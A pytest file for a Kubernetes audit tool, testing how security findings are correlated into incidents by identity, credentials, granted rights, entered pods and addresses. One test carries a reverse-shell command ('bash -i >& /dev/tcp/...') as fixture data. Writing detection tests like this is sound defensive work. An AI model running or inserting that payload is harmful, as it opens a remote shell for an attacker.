"""What joins two findings, and what does not."""

from collections.abc import Callable

import msgspec
import pytest

from kwho.link.trace import Gain, Thing, Trace

MINUTE, HOUR, DAY = 60_000_000, 3_600_000_000, 86_400_000_000
HOME, PUBLIC, OTHER = "10.2.3.4", "203.0.113.9", "198.51.100.7"
WEB, API = "system:serviceaccount:shop:web", "system:serviceaccount:pay:api"
REPLICAS = "system:serviceaccount:kube-system:replicaset-controller"

Make = Callable[..., Trace]
Together = Callable[..., set[frozenset[str]]]


def ids(*numbers: int) -> frozenset[str]:
    return frozenset(f"f-{number:04d}" for number in numbers)


def test_one_identity_is_one_incident_over_weeks(trace: Make, together: Together) -> None:
    weekly = [trace(number, at=number * 7 * DAY, peer=f"10.0.0.{number}") for number in range(6)]
    assert together(weekly) == {ids(0, 1, 2, 3, 4, 5)}


def test_after_a_long_silence_it_is_another_matter(trace: Make, together: Together) -> None:
    assert together([trace(0), trace(1, at=15 * DAY)]) == {ids(0), ids(1)}


def test_two_identities_are_two(trace: Make, together: Together) -> None:
    assert together([trace(0), trace(1, "eve", peer=OTHER)]) == {ids(0), ids(1)}


def test_clusters_are_apart(trace: Make, together: Together) -> None:
    away = trace(1)
    away = msgspec.structs.replace(away, finding=msgspec.structs.replace(away.finding, cluster="west"))
    assert together([trace(0), away]) == {ids(0), ids(1)}


def test_a_credential_joins_what_was_made_with_it_and_what_handed_it_out(trace: Make, together: Together) -> None:
    asked = trace(0, issued=("JTI=1",))
    used = trace(1, API, at=20 * DAY, peer=PUBLIC, credentials=("JTI=1",))
    other = trace(2, WEB, at=DAY, peer=OTHER, credentials=("JTI=2",))
    assert together([asked, used, other]) == {ids(0, 1), ids(2)}


@pytest.mark.parametrize("how", ["grant", "account", "certificate"])
def test_an_identity_that_was_gained_joins_its_use(trace: Make, together: Together, how: str) -> None:
    gain, use = trace(0, gains=(Gain(how, "eve"),)), trace(1, "eve", at=DAY, peer=OTHER)
    assert together([gain, use]) == {ids(0, 1)}


def test_its_use_before_the_gain_joins_nothing(trace: Make, together: Together) -> None:
    gain, use = trace(0, at=DAY, gains=(Gain("grant", "eve"),)), trace(1, "eve", peer=OTHER)
    assert together([gain, use]) == {ids(0), ids(1)}


def test_rights_for_everybody_join_the_anonymous_caller(trace: Make, together: Together) -> None:
    opened = trace(0, gains=(Gain("grant", "system:anonymous"),))
    walked_in = trace(1, "system:anonymous", at=MINUTE, peer=PUBLIC)
    assert together([opened, walked_in]) == {ids(0, 1)}


def test_rights_for_a_program_join_only_from_the_same_address(trace: Make, together: Together) -> None:
    gain = trace(0, gains=(Gain("grant", API),))
    assert together([gain, trace(1, API, at=MINUTE, peer="10.244.1.5")]) == {ids(0), ids(1)}
    assert together([gain, trace(1, API, at=MINUTE, peer="10.0.0.7")]) == {ids(0, 1)}


def test_a_token_joins_its_use_from_outside_unless_the_credentials_differ(trace: Make, together: Together) -> None:
    gain, use = trace(0, gains=(Gain("token", API),)), trace(1, API, at=2 * HOUR, peer=PUBLIC)
    assert together([gain, use]) == {ids(0, 1)}
    known = trace(0, gains=(Gain("token", API),), issued=("JTI=1",))
    assert together([known, trace(1, API, at=MINUTE, peer=PUBLIC, credentials=("JTI=9",))]) == {ids(0), ids(1)}


def test_a_binding_joins_what_it_allowed_from_the_address_of_its_writer(trace: Make, together: Together) -> None:
    binding = Thing("clusterrolebindings", "", "ops-admins")
    wrote = trace(0, peer=PUBLIC, made=(binding,))
    member = trace(1, "eve", at=20 * DAY, peer=PUBLIC, allowed=(binding,))
    elsewhere = trace(2, "bo", at=HOUR, peer=OTHER, allowed=(binding,))
    other = trace(3, "cy", at=22 * DAY, peer=PUBLIC, allowed=(Thing("rolebindings", "shop", "ops-admins"),))
    assert together([wrote, member, elsewhere, other]) == {ids(0, 1), ids(2), ids(3)}


def test_what_a_binding_allowed_before_it_was_written_anew_joins_nothing(trace: Make, together: Together) -> None:
    binding = Thing("rolebindings", "shop", "ops")
    before, wrote = trace(0, "eve", peer=PUBLIC, allowed=(binding,)), trace(1, at=2 * DAY, peer=PUBLIC, made=(binding,))
    assert together([before, wrote]) == {ids(0), ids(1)}


def test_whoever_sets_up_a_cluster_is_a_hub(trace: Make, together: Together) -> None:
    names = [f"user-{number}" for number in range(5)]
    setting_up = trace(0, gains=tuple(Gain("grant", name) for name in names))
    uses = [trace(number + 1, name, at=HOUR, peer=f"10.9.0.{number}") for number, name in enumerate(names)]
    assert together([setting_up, *uses]) == {ids(number) for number in range(6)}


def test_when_several_opened_the_way_nobody_can_tell(trace: Make, together: Together) -> None:
    first, second = (trace(number, f"admin-{number}", gains=(Gain("grant", "eve"),), peer=None) for number in (0, 1))
    use = trace(2, "eve", at=HOUR, peer=OTHER)
    assert together([first, second, use]) == {ids(0), ids(1), ids(2)}


def test_an_entered_pod_joins_its_credential_from_elsewhere(trace: Make, together: Together) -> None:
    entry = trace(0, entered=("shop/web-1",))
    use = trace(1, WEB, at=5 * DAY, peer=PUBLIC, pods=("shop/web-1",))
    assert together([entry, use]) == {ids(0, 1)}
    another = trace(1, WEB, at=5 * DAY, peer=PUBLIC, pods=("shop/web-2",))
    assert together([entry, another]) == {ids(0), ids(1)}


@pytest.mark.parametrize(("severity", "peer"), [("low", PUBLIC), ("high", "10.244.1.5")])
def test_an_honest_entry_and_what_a_pod_does_anyway_stay_apart(
    trace: Make, together: Together, severity: str, peer: str
) -> None:
    entry = trace(0, entered=("shop/web-1",), severity=severity)
    use = trace(1, WEB, at=MINUTE, peer=peer, pods=("shop/web-1",))
    assert together([entry, use]) == {ids(1)} | ({ids(0)} if severity == "high" else set())


def test_whoever_enters_and_then_speaks_as_the_pod_from_the_same_address_is_one(
    trace: Make, together: Together
) -> None:
    entry = trace(0, entered=("shop/web-1",), severity="low", peer="10.244.9.9")
    use = trace(1, WEB, at=MINUTE, peer="10.244.9.9", pods=("shop/web-1",))
    assert together([entry, use]) == {ids(0, 1)}


def test_roles_that_the_cluster_composed_anew_go_to_the_one_who_wrote_a_role(trace: Make, together: Together) -> None:
    composer = "system:serviceaccount:kube-system:clusterrole-aggregation-controller"
    role, view = Thing("clusterroles", "", "mine"), Thing("clusterroles", "", "view")
    wrote, composed = trace(0, made=(role,)), trace(1, composer, at=1, made=(view,), peer="10.0.0.10")
    assert together([wrote, composed]) == {ids(0, 1)}
    other = trace(2, "ana", made=(role,), peer="10.1.1.1")
    assert together([wrote, other, composed]) == {ids(0), ids(2)}


def test_of_several_who_entered_the_grave_one_is_taken(trace: Make, together: Together) -> None:
    pods = ("shop/web-1",)
    grave, honest = trace(0, "ana", entered=pods, severity="high"), trace(1, "bo", at=1, entered=pods, severity="low")
    use = trace(2, WEB, at=HOUR, peer=PUBLIC, pods=pods)
    assert together([grave, honest, use]) == {ids(0, 2)}


def test_an_object_that_was_made_and_used_joins_its_maker_and_user(trace: Make, together: Together) -> None:
    pod = Thing("pods", "shop", "debug")
    made, used = trace(0, "ana", made=(pod,)), trace(1, "bo", at=HOUR, used=(pod,), peer=OTHER)
    assert together([made, used]) == {ids(0, 1)}
    late = trace(1, "bo", at=2 * DAY, used=(pod,), peer=OTHER)
    assert together([made, late]) == {ids(0), ids(1)}


def test_an_object_of_many_joins_nobody(trace: Make, together: Together) -> None:
    pod = Thing("pods", "shop", "debug")
    made = trace(0, "ana", made=(pod,), peer="10.1.0.0")
    used = [trace(number, f"u{number}", at=HOUR, used=(pod,), peer=f"10.1.0.{number}") for number in range(1, 5)]
    assert together([made, *used]) == {ids(number) for number in range(5)}


def test_what_a_controller_made_goes_to_the_cause_and_glues_nothing(trace: Make, together: Together) -> None:
    ours, theirs = Thing("deployments", "a", "miner"), Thing("deployments", "b", "shell")
    story = [
        trace(0, "ana", made=(ours,), peer="10.1.0.1"),
        trace(1, "bo", at=MINUTE, made=(theirs,), peer="10.1.0.2"),
        trace(2, REPLICAS, at=2 * MINUTE, owners=(ours,), peer="10.0.0.10"),
        trace(3, REPLICAS, at=3 * MINUTE, owners=(theirs,), peer="10.0.0.10"),
    ]
    assert together(story) == {ids(0, 2), ids(1, 3)}


def test_the_same_long_command_of_few_joins(trace: Make, together: Together) -> None:
    shell = ("bash -i >& /dev/tcp/203.0.113.66/4444",)
    assert together([trace(0, "ana", payloads=shell), trace(1, "bo", at=HOUR, payloads=shell, peer=OTHER)]) == {
        ids(0, 1)
    }
    many = [trace(number, f"u{number}", payloads=shell, peer=f"10.1.0.{number}") for number in range(4)]
    assert together(many) == {ids(number) for number in range(4)}


def stolen(trace: Make, number: int, user: str, **members: object) -> Trace:
    return trace(number, user, at=number * MINUTE, **{"peer": PUBLIC, "agents": ("curl/8",), **members})


def test_one_attacker_with_two_stolen_credentials_is_one(trace: Make, together: Together) -> None:
    homes = [(WEB, "10.244.1.5"), (API, "10.244.1.6")]
    assert together([stolen(trace, 0, WEB), stolen(trace, 1, API)], homes) == {ids(0, 1)}
    people = [("ana", HOME), ("bo", "10.2.3.5")]
    assert together([stolen(trace, 0, "ana"), stolen(trace, 1, "bo")], people) == {ids(0, 1)}


def test_two_attackers_behind_one_gateway_stay_two(trace: Make, together: Together) -> None:
    both = [stolen(trace, 0, "ana"), stolen(trace, 1, "bo")]
    assert together(both) == {ids(0), ids(1)}
    office = [(f"user-{number}", PUBLIC) for number in range(4)]
    homes = [("ana", HOME), ("bo", "10.2.3.5")]
    assert together(both, [*office, *homes]) == {ids(0), ids(1)}


def test_an_address_joins_only_soon_by_the_same_client_and_something_grave(trace: Make, together: Together) -> None:
    homes = [(WEB, "10.244.1.5"), (API, "10.244.1.6")]
    first = stolen(trace, 0, WEB)
    assert together([first, trace(1, API, at=2 * HOUR, peer=PUBLIC, agents=("curl/8",))], homes) == {ids(0), ids(1)}
    assert together([first, stolen(trace, 1, API, agents=("kubectl",))], homes) == {ids(0), ids(1)}
    lows = [stolen(trace, 0, WEB, severity="low"), stolen(trace, 1, API, severity="low")]
    assert together(lows, homes) == set()


def test_who_guessed_and_then_came_in_is_one(trace: Make, together: Together) -> None:
    guesses, inside = stolen(trace, 0, None), stolen(trace, 1, "legacy-ci")  # type: ignore[arg-type]  # nobody
    assert together([guesses, inside]) == {ids(0, 1)}


def test_a_grave_claim_about_several_joins_what_cites_the_same(trace: Make, together: Together) -> None:
    made = trace(0, "ana", events=(1,), peer="10.1.0.1")
    read = trace(1, "bo", at=MINUTE, events=(2,), peer="10.1.0.2")
    both = {"users": ("ana", "bo"), "events": (1, 2), "detector": "correlation", "peer": None, "at": 2 * MINUTE}
    assert together([made, read, trace(2, None, **both)]) == {ids(0, 1, 2)}
    assert together([made, read, trace(2, None, severity="low", **both)]) == {ids(0, 2), ids(1)}


def test_anonymous_callers_are_apart_by_address_and_day(trace: Make, together: Together) -> None:
    scans = [trace(0, None, peer=PUBLIC), trace(1, None, peer=OTHER), trace(2, None, at=3 * DAY, peer=PUBLIC)]
    assert together(scans) == {ids(0), ids(1), ids(2)}
    assert together([trace(0, None, peer=PUBLIC), trace(1, "system:anonymous", at=HOUR, peer=PUBLIC)]) == {ids(0, 1)}


def test_findings_without_a_time_join_the_first(trace: Make, together: Together) -> None:
    lost = msgspec.structs.replace(trace(1), first=None, last=None)
    assert together([trace(0), lost]) == {ids(0, 1)}


def test_a_claim_about_a_place_is_no_incident_alone(trace: Make, together: Together) -> None:
    place = trace(0, None, users=(None, "ana", "bo"), detector="correlation", peer=PUBLIC)
    assert together([place]) == set()
    assert together([place, trace(1, "ana", at=1, peer=PUBLIC)]) == {ids(1)}


def test_what_a_component_does_alone_is_an_incident_only_when_it_is_high(trace: Make, together: Together) -> None:
    alone = {"user": "system:kube-scheduler", "peer": "10.0.0.10"}
    assert together([trace(0, **alone)]) == set()
    assert together([trace(0, severity="high", **alone), trace(1, at=1, **alone)]) == {ids(0, 1)}


def test_the_account_of_an_entered_pod_is_gained_when_its_credential_names_no_pod(
    trace: Make, together: Together
) -> None:
    entry = trace(0, entered=("shop/web-1",), gains=(Gain("entered", WEB),))
    assert together([entry, trace(1, WEB, at=DAY, peer=PUBLIC)]) == {ids(0, 1)}
    assert together([entry, trace(1, WEB, at=DAY, peer="10.244.1.5")]) == {ids(0), ids(1)}
    bound = trace(1, WEB, at=DAY, peer=PUBLIC, pods=("shop/web-2",))
    assert together([entry, bound]) == {ids(0), ids(1)}
